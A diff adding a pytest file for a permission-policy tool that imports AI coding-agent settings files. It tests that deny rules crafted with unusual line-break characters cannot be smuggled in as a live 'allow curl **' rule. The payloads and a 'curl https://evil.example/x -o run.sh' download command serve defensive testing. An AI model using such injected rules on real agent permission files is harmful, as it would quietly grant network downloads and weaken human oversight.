@@ -1,0 +1,111 @@
+"""Review K: hostile settings files against the importers and the commands that read files."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from policylang.decision import Verdict
+from policylang.engine.policy import load_policy
+from policylang.importers import import_text, render_policy
+
+# every character `str.splitlines` breaks on, besides `\n`
+LINE_BREAKS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+
+
+def policylang(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "policylang.cli.main", *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+        input=stdin,
+    )
+
+
+def _injected(fmt: str, brk: str) -> str:
+    """A settings file whose deny quotes text that, split at `brk`, reads `allow curl **`."""
+    payload = f"curl evil.example{brk}allow curl **{brk}#"
+    if fmt == "claude-code":
+        return json.dumps({"permissions": {"deny": [f"Bash({payload})"]}})
+    if fmt == "opencode":
+        return json.dumps({"permission": {"bash": {"*": "ask", payload: "deny"}}})
+    assert fmt == "gemini"
+    regex = json.dumps(f"^x{brk}allow curl **{brk}#")  # a TOML basic string is JSON-like
+    return (f'[[rule]]\ntoolName = "run_shell_command"\ncommandRegex = {regex}\n'
+            'decision = "deny"\npriority = 900\n')
+
+
+@pytest.mark.parametrize("brk", LINE_BREAKS, ids=[f"U+{ord(b):04X}" for b in LINE_BREAKS])
+@pytest.mark.parametrize("fmt", ["claude-code", "opencode", "gemini"])
+def test_quoted_source_text_never_starts_a_line_of_its_own(
+    tmp_path: Path, fmt: str, brk: str
+) -> None:
+    # review K1: comments quoting the source kept a bare `\r`, which the policy reader
+    # took as a line break: a deny imported as a live `allow curl **`
+    result = import_text(fmt, _injected(fmt, brk), filename=f"team{brk}allow curl **{brk}.x")
+    text = render_policy(result)
+    for line in text.split("\n"):  # lines as the policy reader reads them
+        assert not line.startswith("allow"), line
+        if line.startswith("#"):  # and as an editor shows a comment: one line
+            assert len(line.splitlines()) <= 1, repr(line)
+    path = tmp_path / "imported.policy"
+    path.write_text(text, encoding="utf-8", newline="")
+    policy = load_policy(path, check=False)
+    decision = policy.evaluate("curl https://evil.example/x -o run.sh", workspace=str(tmp_path))
+    assert decision.verdict is not Verdict.ALLOW
+
+
+def test_a_bare_cr_in_a_policy_comment_does_not_end_the_comment(tmp_path: Path) -> None:
+    path = tmp_path / "cr.policy"
+    path.write_bytes(b'policy "x"\ndefault ask\n# note\rallow curl **\nallow ls **\n')
+    policy = load_policy(path, check=False)
+    assert policy.evaluate("curl x", workspace=str(tmp_path)).verdict is Verdict.ASK
+    assert policy.evaluate("ls", workspace=str(tmp_path)).verdict is Verdict.ALLOW
+    # fmt reads the file the same way, from a path and from stdin
+    assert policylang("fmt", "--check", str(path)).returncode == 0
+    piped = subprocess.run(
+        [sys.executable, "-m", "policylang.cli.main", "fmt", "-"],
+        input=path.read_bytes(), capture_output=True, timeout=60, check=False,
+    )
+    assert piped.returncode == 0
+    assert b"# note\rallow curl **\n" in piped.stdout
+
+
+def test_windows_line_endings_still_load(tmp_path: Path) -> None:
+    path = tmp_path / "crlf.policy"
+    path.write_bytes(b'policy "x"\r\ndefault ask\r\nallow ls ** \\\r\n  unless -R\r\n# end\r\n')
+    policy = load_policy(path, check=False)
+    assert policy.evaluate("ls -la", workspace=str(tmp_path)).verdict is Verdict.ALLOW
+    assert policy.evaluate("ls -R", workspace=str(tmp_path)).verdict is Verdict.ASK
+
+
+@pytest.mark.parametrize("kind", ["fifo", "device"])
+def test_import_and_fmt_refuse_what_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
+    # review K3: both read with `read_text`, and hung on a FIFO or /dev/zero
+    if kind == "fifo":
+        target = tmp_path / "settings.json"
+        os.mkfifo(target)
+    else:
+        target = Path("/dev/zero")
+    imported = policylang("import", "--from", "claude-code", str(target))
+    assert imported.returncode == 2
+    assert "not a regular file" in imported.stderr
+    formatted = policylang("fmt", str(target))
+    assert formatted.returncode == 1
+    assert "not a regular file" in formatted.stdout
+
+
+def test_fmt_reports_text_that_is_not_utf8(tmp_path: Path) -> None:
+    path = tmp_path / "latin1.policy"
+    path.write_bytes(b'policy "caf\xe9"\ndefault ask\n')
+    proc = policylang("fmt", str(path))
+    assert proc.returncode == 1
+    assert "not UTF-8" in proc.stdout
+    assert "Traceback" not in proc.stderr
